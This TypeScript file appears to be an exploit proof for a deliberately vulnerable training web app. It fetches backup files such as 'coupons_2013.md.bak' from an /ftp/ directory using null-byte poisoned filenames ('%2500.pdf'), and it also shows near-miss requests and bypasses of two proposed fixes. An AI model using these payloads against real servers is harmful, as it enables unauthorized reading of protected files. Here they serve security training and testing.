import { prove } from '@fruit/challenge-kit/proof'
import { fetchPoisoned, nearMissesOf, spellingsOf } from '../../weaknesses/poisoned-name/fetch-poisoned.ts'
import { challenge } from './challenge.ts'

const NAME = 'coupons_2013.md.bak'

export const proof = prove(challenge, {
  exploit: (attacker) => fetchPoisoned(attacker, NAME),
  spellings: spellingsOf(NAME),
  nearMisses: {
    ...nearMissesOf(NAME),
    'the backup of the developer beside it': (attacker) => attacker.get('/ftp/package.json.bak%2500.md'),
    'the coupons without their last ending': (attacker) => attacker.get('/ftp/coupons_2013.md'),
  },
  bypasses: {
    'refuse-the-reported-name': (attacker) => attacker.get(`/ftp/${NAME}%2500.pdf`),
    'cut-at-the-last-zero': (attacker) => attacker.get(`/ftp/${NAME}%2500.pdf`),
  },
})
